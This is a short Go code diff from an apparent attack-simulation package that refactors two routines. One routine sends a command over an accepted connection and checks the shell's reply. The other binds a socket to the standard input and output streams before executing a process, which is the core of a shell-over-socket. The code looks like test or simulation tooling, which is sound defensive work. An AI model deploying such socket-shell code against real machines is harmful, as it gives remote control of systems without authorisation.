@@ -1,7 +1,6 @@
 package actor
 
 import (
-	"bytes"
 	"errors"
 	"fmt"
 	"io"
@@ -85,22 +84,7 @@ func command42(l net.Listener) error {
 		return err
 	}
 	defer c.Close()
-	c.SetDeadline(time.Now().Add(8 * time.Second))
-	if _, err := io.WriteString(c, shellCommand); err != nil {
-		return err
-	}
-	var got []byte
-	for buffer := make([]byte, 4096); len(got) < 1<<20; {
-		n, err := c.Read(buffer)
-		got = append(got, buffer[:n]...)
-		if bytes.Contains(got, []byte(shellReply)) {
-			return nil
-		}
-		if err != nil {
-			return fmt.Errorf("the shell's reply was %q: %w", got, err)
-		}
-	}
-	return errors.New("the shell's reply is too long")
+	return order(c)
 }
 
 // shellVictim returns the command of the process that gives its shell away.
@@ -154,10 +138,8 @@ func shellOnSocket(args []string) error {
 		return err
 	}
 	report(now(), "execve", args[1], nil)
-	for stdio := range 3 {
-		if err := unix.Dup3(fd, stdio, 0); err != nil {
-			return err
-		}
+	if err := stdio(fd); err != nil {
+		return err
 	}
 	if err := unix.Close(fd); err != nil {
 		return err
